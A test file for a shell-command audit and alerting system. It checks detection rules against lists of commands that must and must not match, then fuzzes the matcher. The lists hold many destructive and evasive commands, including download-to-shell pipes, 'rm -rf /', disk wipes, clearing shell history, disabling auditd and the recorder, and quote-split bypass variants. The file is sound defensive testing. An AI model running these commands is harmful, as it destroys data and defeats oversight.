/**
 * Every built-in rule against commands it must match (bypasses included) and near misses it must
 * not; config rules with scope and exceptions; the regex guard.
 */
import { describe, expect, test } from "bun:test";
import { BUILTIN_RULES } from "../../server/src/alerts/builtin-rules.ts";
import { seesCommands } from "../../server/src/alerts/line-filter.ts";
import { normalize } from "../../server/src/alerts/normalize.ts";
import { activeRules, MATCH_CHARS, matchRecord, type Rule, type RuleConfig, ruleSchema, type RuleInput } from "../../server/src/alerts/rules.ts";

const input = (command: string, over: Partial<RuleInput> = {}): RuleInput => ({ command, kind: "command", flags: [], hostname: "web-1", luser: "alice", suser: "root", ...over });
const builtins = activeRules({ rules: [], disabled_builtins: [] });
const ids = (command: string, over: Partial<RuleInput> = {}) => matchRecord(builtins, input(command, over)).map((r) => r.id);

const CORPUS: Record<string, { hit: string[]; miss: string[] }> = {
  "evasion.history-off": {
    hit: ["set +o history", "sudo -i; set +o history", "set -e +o history", "true && set +o history"],
    miss: ["set -o history", "echo 'set +o history'", "set +H", "vim set.txt"],
  },
  "evasion.history-vars": {
    hit: ["unset HISTFILE", "export HISTFILE=/dev/null", "HISTFILE=/dev/null", "HISTCONTROL=ignorespace", "export HISTIGNORE='*'", "HISTSIZE=0 bash", "unset PROMPT_COMMAND", "declare -x HISTFILESIZE=0", "PROMPT_COMMAND= ls"],
    miss: ["echo $HISTFILE", "cat ~/.bash_history", "grep HISTFILE /etc/profile", "export PATH=$PATH:/opt/bin", "MYHISTFILE=x"],
  },
  "evasion.history-edit": {
    hit: ["history -c", "history -d 42", "history -cw", "history -s 'ls'", "history -w /dev/null"],
    miss: ["history", "history 20", "history | grep ssh", "history -w", "man history"],
  },
  "evasion.recorder-files": {
    hit: ["rm /etc/profile.d/00-cmdaudit.sh", "sudo mv /var/log/cmdaudit/commands.log /tmp", "truncate -s0 /var/log/cmdaudit/commands.log", "echo x > /var/log/cmdaudit/commands.log",
      "vim /etc/profile.d/00-cmdaudit.sh", "cp /dev/null /var/lib/cmdaudit/state.json", "sed -i d /etc/bash.bashrc", "rm -f /etc/cron.d/cmdaudit"],
    miss: ["cat /var/log/cmdaudit/commands.log", "tail -f /var/log/cmdaudit/commands.log", "ls -l /etc/profile.d/", "grep alice /var/log/cmdaudit/commands.log", "vim /etc/profile.d/other.sh"],
  },
  "evasion.chattr": {
    hit: ["chattr -a /var/log/cmdaudit/commands.log", "sudo chattr -i /etc/passwd", "chattr -ia x"],
    miss: ["chattr +a /var/log/x", "lsattr /var/log", "chattr +i x"],
  },
  "evasion.kill-recorder": {
    hit: ["pkill -f cmdaudit", "killall cmdaudit-reporter", "systemctl stop cmdaudit-stampd", "sudo systemctl disable cmdaudit-stampd.service", "crontab -r"],
    miss: ["kill -9 1234", "systemctl status cmdaudit-stampd", "pkill nginx", "crontab -l"],
  },
  "evasion.other-shell": {
    hit: ["exec sh", "exec /bin/zsh", "bash --norc", "bash --noprofile -i", "sh", "zsh", "exec bash", "busybox sh"],
    miss: ["bash", "bash script.sh", "sh ./install.sh", "sh -c 'ls'", "zsh --version", "bash -c 'echo hi'"],
  },
  "exec.download-to-shell": {
    hit: ["curl -fsSL https://x.example/i.sh | sh", "wget -qO- http://x/y | sudo bash", "curl x | tee log | bash", "sh <(curl -s https://x/y)", 'bash -c "$(wget -qO- http://x)"',
      "curl https://x | python3", "curl -s x|bash -s -- --yes"],
    miss: ["curl -o install.sh https://x/i.sh", "wget http://x/file.tar.gz", "curl x | jq .", "cat install.sh | less", "echo curl | sh"],
  },
  "exec.base64-to-shell": {
    hit: ["echo Y3VybA== | base64 -d | sh", "base64 --decode p.txt | bash", "echo x | base64 -D | zsh", "xxd -r -p x | sh", "openssl base64 -d -in x | bash"],
    miss: ["echo hi | base64", "base64 -d x > y", "base64 -d x | less"],
  },
  "destroy.rm-root": {
    hit: ["rm -rf /", "sudo rm -rf /*", "rm -fr /", "rm -r -f /", "rm --recursive --force /", "rm -rf --no-preserve-root /", "rm -Rf //", "cd /tmp && rm -rf /"],
    miss: ["rm -rf /tmp/x", "rm -rf ./", "rm -f /", "rm -rf /var/lib/docker", "echo rm -rf /"],
  },
  "destroy.mkfs": {
    hit: ["mkfs.ext4 /dev/sdb1", "mkfs -t xfs /dev/vdb", "sudo mke2fs /dev/sdc", "wipefs -a /dev/sdb"],
    miss: ["mkfs.ext4", "man mkfs", "ls /sbin/mkfs*", "mkdir fs"],
  },
  "destroy.dd-disk": {
    hit: ["dd if=/dev/zero of=/dev/sda bs=1M", "sudo dd if=img of=/dev/nvme0n1", "dd of=/dev/vdb if=x", "dd if=/dev/urandom of=/dev/mmcblk0"],
    miss: ["dd if=/dev/sda of=/tmp/disk.img", "dd if=/dev/zero of=/tmp/f bs=1M count=1"],
  },
  "destroy.firewall-flush": {
    hit: ["iptables -F", "sudo iptables -t nat -F", "ip6tables --flush", "nft flush ruleset", "ufw disable", "systemctl stop firewalld"],
    miss: ["iptables -L", "iptables -A INPUT -j ACCEPT", "nft list ruleset", "ufw status", "systemctl status firewalld"],
  },
  "destroy.audit-off": {
    hit: ["systemctl stop auditd", "service auditd stop", "auditctl -e 0", "auditctl -D", "sudo systemctl mask auditd.service"],
    miss: ["systemctl status auditd", "auditctl -l", "auditctl -e 1", "ausearch -k x"],
  },
};

describe.each(Object.entries(CORPUS))("%s", (id, { hit, miss }) => {
  test.each(hit)("matches %j", (cmd) => {
    expect(ids(cmd)).toContain(id);
  });
  test.each(miss)("does not match %j", (cmd) => {
    expect(ids(cmd)).not.toContain(id);
  });
});

test("every command rule has a corpus; the pipeline's rules match the record, not its text", () => {
  expect(BUILTIN_RULES.map((r) => r.id).filter((id) => !id.startsWith("pipeline.") && !(id in CORPUS))).toEqual([]);
  expect(ids("cmdaudit hook: 2 record(s) could not be written", { kind: "loss" })).toEqual(["pipeline.loss"]);
  expect(ids("ls", { flags: ["forged"] })).toEqual(["pipeline.forged"]);
  expect(ids("ls", { flags: ["conflict"] })).toEqual(["pipeline.conflict"]);
  // A loss record's text is not a command: it runs nothing.
  expect(ids("rm -rf /", { kind: "loss" })).toEqual(["pipeline.loss"]);
  expect(ids("ls -la")).toEqual([]);
});

test("a built-in rule turned off matches nothing", () => {
  const rules = activeRules({ rules: [], disabled_builtins: ["destroy.rm-root"] });
  expect(matchRecord(rules, input("rm -rf /")).map((r) => r.id)).toEqual([]);
});

describe("config rules", () => {
  const rule = (r: Partial<RuleConfig> & { id: string }) => ruleSchema.parse(r);
  test("by program (through prefixes), with an args regex, in scope, outside exceptions", () => {
    const rules = activeRules({
      disabled_builtins: BUILTIN_RULES.map((b) => b.id),
      rules: [
        rule({ id: "reboot", severity: "critical", command: ["reboot", "shutdown", "poweroff"] }),
        rule({ id: "init-level", command: "init", args: "^[06]$" }),
        rule({ id: "db-drop", regex: "(?i)drop\\s+database".replace("(?i)", ""), hosts: ["db-*"], except: { users: ["dba"] } }),
        rule({ id: "off", command: "ls", enabled: false }),
      ],
    });
    const m = (cmd: string, over: Partial<RuleInput> = {}) => matchRecord(rules, input(cmd, over)).map((r) => r.id);
    expect(m("sudo /sbin/reboot")).toEqual(["reboot"]);
    expect(m("vim init.py")).toEqual([]);
    expect(m("init 0")).toEqual(["init-level"]);
    expect(m("init 3")).toEqual([]);
    expect(m("mysql -e 'drop database prod'", { hostname: "db-1" })).toEqual(["db-drop"]);
    expect(m("mysql -e 'drop database prod'", { hostname: "web-1" })).toEqual([]);
    expect(m("mysql -e 'drop database prod'", { hostname: "db-1", luser: "dba" })).toEqual([]);
    expect(m("ls")).toEqual([]);
  });

  test.each([
    [{ id: "x" }, "a rule needs command (program names) or regex"],
    [{ id: "x", args: "a" }, "a rule needs command"],
    [{ id: "x", command: "ls", args: "(a+)+$" }, "exponential"],
    [{ id: "x", regex: "(\\w*)*x" }, "exponential"],
    [{ id: "x", regex: "(a)\\1" }, "backreference"],
    [{ id: "x", regex: "([" }, "not a regular expression"],
    [{ id: "X Y", regex: "a" }, "an id holds"],
    [{ id: "x", regex: "a", extra: 1 }, "extra"],
  ])("refused, naming the problem: %j", (r, problem) => {
    const res = ruleSchema.safeParse(r);
    expect(res.success).toBe(false);
    expect(JSON.stringify(res.error?.issues)).toContain(problem);
  });
});

/** Every rule tried on every line, normalised in full: what the program and line filters must agree with. */
const reference = (rules: Rule[], i: RuleInput) =>
  rules.filter((r) => r.matches(i, i.kind === "command" && seesCommands(r) ? normalize(i.command.slice(0, MATCH_CHARS)) : [])).map((r) => r.id);

describe("the filters never hide a match: on fuzzed lines, matchRecord agrees with trying every rule on the normalised line", () => {
  let seed = 7;
  const next = (n: number) => { seed = (seed * 1103515245 + 12345) % 2 ** 31; return seed % n; };
  const check = (rules: Rule[], line: string) => expect({ line, ids: matchRecord(rules, input(line)).map((r) => r.id) }).toEqual({ line, ids: reference(rules, input(line)) });

  // Two config rules: one on programs whose names hold a quote, one on the text alone.
  const rules = [...builtins, ...activeRules({ rules: [ruleSchema.parse({ id: "c.quoted", command: ["fo'o", "fs.ext4"] }), ruleSchema.parse({ id: "c.regex", regex: "rm" })], disabled_builtins: [] }).slice(builtins.length)];

  test("whole commands joined by separators and substitutions", () => {
    const pieces = ["rm -rf /", "mkfs.ext4 /dev/sdb", "curl x | sh", "set +o history", "history -c", "chattr -i /var/log/cmdaudit", "dd of=/dev/sda", "iptables -F",
      "systemctl stop auditd", "exec zsh", "base64 -d x | bash", "pkill cmdaudit", "ls", "vim a", "echo hi", "sudo", "env X=1", "HISTFILE=/dev/null", "cat /etc/profile",
      "/sbin/rm -r /", "sudo /usr/sbin/mkfs -t ext4 /dev/sdc", "eval rm -rf /", "sh -c 'rm -rf /'", "r''m -rf /", "\\rm -fr /", "\"rm\" -rf /*", "x=$(rm -rf /)",
      "bash -c \"$(curl -s x)\"", "unset HIST''FILE", "export PROMPT_COMMAND=", "wipe''fs -a /dev/sda", "(rm -rf /)", "{ rm -rf /; }", "a\\\nrm -rf /",
      "r\\\nm -rf /", "mk\\\nfs.ext4 /dev/sda", "\"fo'o\" x", "fo\\'o y",
      "nc\t10.0.0.1 80 | sh", "n''c 10.0.0.1 80 | bash", "/bin/nc\r10.0.0.1 80|sh", "systemctl stop cmdaudit-stampd", "crontab -ir", "service firewalld stop",
      "openssl base64 -d -in x | sh", "xxd -r -p x | bash", "dd of=/dev/nvme0n1", "systemctl stop auditd.service", "nft flush ruleset", "ufw disable"];
    const joins = [" ; ", " && ", " | ", " || ", "\n", " $(", " `", "'", "\"", "\\", ""];
    for (let i = 0; i < 4000; i++) {
      let line = pieces[next(pieces.length)]!;
      for (let k = next(3); k > 0; k--) line += joins[next(joins.length)]! + pieces[next(pieces.length)]!;
      check(rules, line);
    }
  });

  test("lines made of shell fragments: quotes, escapes, separators and pieces of program names", () => {
    const bits = ["r", "m", "rm", " ", " ", "-rf", "/", "/*", "'", "\"", "\\", "\n", ";", "|", "&", "`", "$(", "(", ")", "{", "}", "sh", "ba", "set", "+o", "history",
      "HIST", "FILE=", "mk", "fs", ".ext4", "\\\n", "dd", "of=/dev/sda", "eval", "-c", "curl", "base64", "-d", "chattr", "-a", "cmd", "audit", "sudo", "x", "=", ".",
      "nc", "\t", "\r", "wget", "-O-", "of=/dev/sda", "systemctl", "stop", "firewalld", "auditd", "crontab", "-r", "xxd", "openssl", "pkill", "nft", "flush", "ruleset", "ufw", "disable"];
    for (let i = 0; i < 20000; i++) {
      let line = "";
      for (let k = 1 + next(12); k > 0; k--) line += bits[next(bits.length)]!;
      check(rules, line);
    }
  });
});